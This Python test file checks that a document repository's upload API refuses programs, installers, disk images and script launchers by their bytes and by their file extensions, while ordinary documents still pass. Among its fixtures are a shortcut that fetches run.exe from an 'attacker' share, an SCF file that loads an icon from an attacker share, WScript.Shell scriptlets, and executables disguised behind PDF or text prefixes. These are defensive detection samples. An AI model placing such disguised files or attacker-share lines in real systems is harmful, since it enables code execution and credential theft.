"""Programs are refused on every upload path by what their bytes are, and by the names they go
by: a new document and a new version both answer 415 forbidden_file_type and store nothing,
while ordinary documents that merely mention the same words pass."""

import io
import uuid

import openpyxl
import pytest
from rest_framework.test import APIClient

from repository.models import Document, Version
from tests.helpers import docx_bytes, new_version, upload, zip_bytes

# Nothing here needs a commit: no job, thread or other connection reads the rows.
pytestmark = pytest.mark.rolled_back

MINIMAL_PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
# A DOS header whose every field is non-zero, e_lfanew included (0x01010101).
DOS_HEADER_WITHOUT_ZERO = b"MZ" + b"\x90" * 58 + b"\x01\x01\x01\x01"
JAR = zip_bytes(
    {"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n", "app/Main.class": b"\xca\xfe\xba\xbe"}
)


def ole_storage(root_class: str) -> bytes:
    """An OLE compound file header and its root directory entry carrying `root_class`."""
    data = bytearray(1024)
    data[:8] = bytes.fromhex("d0cf11e0a1b11ae1")
    data[0x1E:0x20] = (9).to_bytes(2, "little")  # 512-byte sectors; directory in sector 0
    data[512 + 0x50 : 512 + 0x60] = uuid.UUID(root_class).bytes_le
    return bytes(data)


def iso_image(identifier: bytes = b"CD001", offset: int = 0x8001) -> bytes:
    data = bytearray(0x9800)
    data[offset : offset + 5] = identifier
    return bytes(data)


MSI = ole_storage("000c1084-0000-0000-c000-000000000046")
WORD_DOCUMENT = ole_storage("00020906-0000-0000-c000-000000000046")
EXCEL_WORKBOOK = ole_storage("00020820-0000-0000-c000-000000000046")

BY_CONTENT = {
    "pe-header-without-zero": (
        DOS_HEADER_WITHOUT_ZERO + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21" + bytes(64),
        "invoice.pdf",
    ),
    "jar-behind-pdf-prefix": (b"%PDF-1.4\n%junk\n" + bytes(range(256)) * 8 + JAR, "scan.pdf"),
    "jar-behind-text-prefix": (b"Meeting notes\n" * 50 + JAR, "notes.txt"),
    "zip-with-deep-exe": (zip_bytes({"a.txt": b"x", "docs/2024/setup.exe": b"x"}), "docs.zip"),
    "zip-with-js": (zip_bytes({"site/app.js": b"alert(1)"}), "site.zip"),
    "zip-with-jar": (zip_bytes({"lib/tool.jar": JAR}), "libs.zip"),
    "zip-with-msi": (zip_bytes({"Setup.MSI": MSI}), "setup.zip"),
    "zip-in-zip-with-exe": (
        zip_bytes({"old/2019.zip": zip_bytes({"tools/run.exe": b"x"}), "a.txt": b"x"}),
        "backup.zip",
    ),
    "msixbundle": (
        zip_bytes({"AppxMetadata/AppxBundleManifest.xml": b"<Bundle/>", "x.msix": b"x"}),
        "bundle.zip",
    ),
    "chm": (b"ITSF\x03\x00\x00\x00" + bytes(92), "help.pdf"),
    "iso-9660": (iso_image(), "disk.pdf"),
    "udf": (iso_image(b"BEA01"), "disk.bin"),
    "msi": (MSI, "letter.doc"),
    "msc": (b'<?xml version="1.0"?>\r\n<MMC_ConsoleFile ConsoleVersion="3.0"/>\r\n', "a.xml"),
    "application": (
        b'<?xml version="1.0" encoding="utf-8"?>\n<asmv1:assembly manifestVersion="1.0" '
        b'xmlns:asmv1="urn:schemas-microsoft-com:asm.v1"><deployment install="true"/>'
        b"</asmv1:assembly>",
        "deploy.xml",
    ),
    "jnlp": (
        b'<?xml version="1.0"?>\n<!-- launcher -->\n<jnlp spec="1.0+" codebase="https://x/">'
        b'<application-desc main-class="Main"/></jnlp>',
        "start.xml",
    ),
    "sct": (
        b'<?XML version="1.0"?>\n<scriptlet>\n<registration progid="x">\n'
        b'<script language="JScript">new ActiveXObject("WScript.Shell")</script>\n'
        b"</registration>\n</scriptlet>\n",
        "notes.txt",
    ),
    "wsc": (
        b'<?xml version="1.0"?>\n<component><registration progid="x"/>'
        b'<script language="VBScript">CreateObject("WScript.Shell")</script></component>',
        "notes.txt",
    ),
    "url": (
        b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n"
        b"[InternetShortcut]\r\nURL=file://attacker/share/run.exe\r\n",
        "link.txt",
    ),
    "scf": (b"[Shell]\r\nCommand=2\r\nIconFile=\\\\attacker\\share\\icon.ico\r\n", "a.txt"),
    "inf": ('; setup\r\n[Version]\r\nSignature="$Windows NT$"\r\n'.encode("utf-16"), "a.txt"),
}

NAMES = [
    "bundle.msixbundle",
    "help.chm",
    "console.msc",
    "link.url",
    "disk.iso",
    "addin.xll",
    "deploy.application",
    "start.jnlp",
    "explorer.scf",
    "component.sct",
    "component.wsc",
    "setup.inf",
    "tool.pyw",
    "report.pdf.exe",
    "setup.exe. .",
    "Setup.EXE",
    "run.Js",
]


def assert_refused_on_upload_and_version(client: APIClient, content: bytes, filename: str) -> None:
    response = upload(client, content, filename)
    assert response.status_code == 415, response.content
    assert response.json()["code"] == "forbidden_file_type"
    existing = upload(client, b"first version", "plain.txt")
    assert existing.status_code == 201, existing.content
    refused = new_version(client, existing.json()["id"], content, filename)
    assert refused.status_code == 415, refused.content
    assert refused.json()["code"] == "forbidden_file_type"
    assert Document.objects.count() == 1
    assert Version.objects.count() == 1


@pytest.mark.parametrize(("content", "filename"), BY_CONTENT.values(), ids=BY_CONTENT.keys())
def test_programs_are_refused_by_content(alice: APIClient, content: bytes, filename: str) -> None:
    """Whatever the name says, these bytes are programs, installers, disk images or
    launchers, or zips holding one."""
    assert_refused_on_upload_and_version(alice, content, filename)


@pytest.mark.parametrize("filename", NAMES)
def test_program_names_are_refused_whatever_the_content(alice: APIClient, filename: str) -> None:
    """The suffix Windows goes by (the last one, any case, trailing dots and spaces
    dropped) is refused over harmless bytes."""
    assert_refused_on_upload_and_version(alice, MINIMAL_PDF, filename)


def test_pe_header_far_behind_a_text_head_is_refused(alice: APIClient) -> None:
    """Windows looks for the PE header wherever e_lfanew points: 16 MiB into the file here,
    behind a DOS header without a zero byte and 16 MiB that read as text."""
    pointer = 0x01010101
    content = bytearray(DOS_HEADER_WITHOUT_ZERO + b"This program cannot be run in DOS mode.\r\n")
    content = content.ljust(pointer + 256, b" ")
    content[pointer : pointer + 4] = b"PE\x00\x00"
    assert_refused_on_upload_and_version(alice, bytes(content), "notes.txt")


def xlsx_bytes() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active.append(["MZ", "[Version]", "setup.exe"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


ORDINARY = {
    "docx": (docx_bytes("MZ is Mozambique.", "[Version]", "Signature=x"), "report.docx"),
    "xlsx": (xlsx_bytes(), "book.xlsx"),
    "pdf": (MINIMAL_PDF + b"(MZ [Version] PK\x05\x06 CD001)", "contract.pdf"),
    "text-mentioning": (
        b"Shipping to MZ (Mozambique).\n[Version] 2.1 ships next week.\nSignature=Ann\n",
        "notes.txt",
    ),
    "text-starting-with-mz": (b"MZ is the country code of Mozambique.\n" * 300, "codes.txt"),
    "ini-settings": (b"[Version]\r\nMajor=2\r\n[Display]\r\nColour=blue\r\n", "settings.ini"),
    "xml-component": (b'<?xml version="1.0"?><component id="pump-7"/>', "parts.xml"),
    "word-ole": (WORD_DOCUMENT, "letter.doc"),
    "excel-ole": (EXCEL_WORKBOOK, "book.xls"),
    "zip-of-documents": (
        zip_bytes({"scans/a.pdf": MINIMAL_PDF, "2019.zip": zip_bytes({"b.txt": b"x"})}),
        "scans.zip",
    ),
}


@pytest.mark.parametrize(("content", "filename"), ORDINARY.values(), ids=ORDINARY.keys())
def test_ordinary_documents_still_pass(alice: APIClient, content: bytes, filename: str) -> None:
    """Documents that mention MZ, [Version] or a program name in their text, OLE Word and
    Excel files, and zips of documents are accepted as new documents and versions."""
    created = upload(alice, content, filename)
    assert created.status_code == 201, created.content
    version = new_version(alice, created.json()["id"], content, filename)
    assert version.status_code == 201, version.content
